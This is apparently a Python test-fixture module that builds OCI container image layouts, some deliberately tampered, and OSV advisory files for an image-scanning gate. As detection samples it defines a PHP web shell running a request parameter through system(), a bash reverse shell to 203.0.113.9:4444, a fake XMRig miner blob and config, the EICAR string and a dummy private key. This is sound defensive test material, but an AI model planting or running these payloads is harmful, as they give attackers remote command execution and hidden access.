"""Build OCI layouts for the image-gate tests: any layers (hostile ones included), any config,
gzip/zstd/uncompressed, and deliberate tampering. tests.harness.oci builds the busybox base layer."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import tarfile
from dataclasses import dataclass
from pathlib import Path

import zstandard

from tests.harness.oci import MEDIA_CONFIG, MEDIA_INDEX, MEDIA_MANIFEST, _arch, layer_tar

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MINER = (
    b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"XMRig 6.21.0 built for linux\0stratum+tcp://pool.example.net:3333\0"
    b"--donate-level=1\0randomx\0" + os.urandom(2048)
)
WEBSHELL = b'<?php\nif (isset($_REQUEST["c"])) { system($_REQUEST["c"]); }\n?>\n'
PRIVATE_KEY = (
    b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n"
    b"-----END OPENSSH PRIVATE KEY-----\n"
)
REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
MINER_CONFIG = b'{"pools": [{"url": "stratum+tcp://pool.example.net:3333", "user": "x"}], "donate-level": 1}\n'
DPKG_STATUS = (
    b"Package: openssl\nStatus: install ok installed\nVersion: 3.0.11-1~deb12u1\nSource: openssl\n\n"
    b"Package: libssl3\nStatus: install ok installed\nVersion: 3.0.11-1~deb12u1\nSource: openssl\n\n"
    b"Package: zlib1g\nStatus: install ok installed\nVersion: 1:1.2.13.dfsg-1\nSource: zlib\n\n"
    b"Package: removed\nStatus: deinstall ok config-files\nVersion: 1.0\n"
)
OS_RELEASE_DEBIAN = b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n'


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, mode: int = 0o644, link: str = ""):
    return (name, kind, data, mode, link)


def raw_tar(entries) -> bytes:
    """A tar of (name, type, data, mode, linkname) entries, names exactly as given (hostile ok)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind, data, mode, link in entries:
            ti = tarfile.TarInfo(name)
            ti.type, ti.mode, ti.linkname, ti.mtime = kind, mode, link, 0
            if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
                ti.devmajor, ti.devminor = 1, 3
            ti.size = len(data) if kind == tarfile.REGTYPE else 0
            tar.addfile(ti, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return buf.getvalue()


def busybox_layer(files: dict | None = None) -> bytes:
    return layer_tar(files or {})[0]


def compress(layer: bytes, how: str) -> tuple[bytes, str]:
    if how == "gzip":
        return gzip.compress(layer, 1, mtime=0), "application/vnd.oci.image.layer.v1.tar+gzip"
    if how == "zstd":
        return zstandard.ZstdCompressor(level=3).compress(layer), "application/vnd.oci.image.layer.v1.tar+zstd"
    return layer, "application/vnd.oci.image.layer.v1.tar"


@dataclass
class Built:
    path: Path
    name: str
    digest: str  # manifest digest (what index.json points at)
    layers: list[str]
    diff_ids: list[str]


def write_layout(
    dest,
    layers: list[bytes],
    name: str = "nodewarden.test/img:1",
    compression: str = "gzip",
    user: str = "65534",
    blobs_override: dict[int, bytes] | None = None,
    diff_ids: list[str] | None = None,
    tamper_manifest: bool = False,
    as_tar: bool = False,
    shared_blobs: dict[str, bytes] | None = None,
) -> Built:
    """Write an OCI layout (directory, or tar when as_tar) with these uncompressed layers.
    blobs_override {i: bytes}: layer i's blob file holds these bytes instead (digest unchanged).
    tamper_manifest: the manifest blob's bytes differ from its digest."""
    blobs: dict[str, bytes] = {}
    descs, dids = [], []
    for i, layer in enumerate(layers):
        blob, media = compress(layer, compression)
        d = sha(blob)
        blobs[d] = (blobs_override or {}).get(i, blob)
        descs.append({"mediaType": media, "digest": d, "size": len(blob)})
        dids.append(sha(layer))
    config = {
        "architecture": _arch(),
        "os": "linux",
        "config": {"User": user, "Cmd": ["/bin/sh"], "Labels": {"test": "yes"}},
        "rootfs": {"type": "layers", "diff_ids": diff_ids if diff_ids is not None else dids},
    }
    config_b = json.dumps(config, sort_keys=True).encode()
    blobs[sha(config_b)] = config_b
    manifest = {
        "schemaVersion": 2,
        "mediaType": MEDIA_MANIFEST,
        "config": {"mediaType": MEDIA_CONFIG, "digest": sha(config_b), "size": len(config_b)},
        "layers": descs,
    }
    manifest_b = json.dumps(manifest, sort_keys=True).encode()
    mdigest = sha(manifest_b)
    blobs[mdigest] = manifest_b + (b" " if tamper_manifest else b"")
    index = {
        "schemaVersion": 2,
        "mediaType": MEDIA_INDEX,
        "manifests": [
            {
                "mediaType": MEDIA_MANIFEST,
                "digest": mdigest,
                "size": len(manifest_b),
                "annotations": {"io.containerd.image.name": name, "org.opencontainers.image.ref.name": "1"},
            }
        ],
    }
    files = {"oci-layout": b'{"imageLayoutVersion": "1.0.0"}', "index.json": json.dumps(index).encode()}
    for d, b in blobs.items():
        files[f"blobs/sha256/{d.split(':', 1)[1]}"] = b
    if shared_blobs is not None:
        shared_blobs.update({k: v for k, v in files.items() if k.startswith("blobs/")})
        shared_blobs.setdefault("_manifests", []).append(index["manifests"][0])
    dest = Path(dest)
    if as_tar:
        with tarfile.open(dest, "w") as tar:
            for p, data in files.items():
                ti = tarfile.TarInfo(p)
                ti.size = len(data)
                tar.addfile(ti, io.BytesIO(data))
    else:
        for p, data in files.items():
            (dest / p).parent.mkdir(parents=True, exist_ok=True)
            (dest / p).write_bytes(data)
    return Built(dest, name, mdigest, [d["digest"] for d in descs], dids)


def osv_advisory(adv_id: str, eco: str, name: str, fixed: str, severity: str | None = "HIGH", **extra) -> dict:
    adv = {
        "id": adv_id,
        "summary": f"test advisory for {name}",
        "affected": [
            {
                "package": {"ecosystem": eco, "name": name},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}],
            }
        ],
    }
    if severity:
        adv["database_specific"] = {"severity": severity}
    adv.update(extra)
    return adv


def write_osv_dir(d, advisories: list[dict]) -> Path:
    d = Path(d)
    d.mkdir(parents=True, exist_ok=True)
    for adv in advisories:
        (d / f"{adv['id']}.json").write_text(json.dumps(adv))
    return d
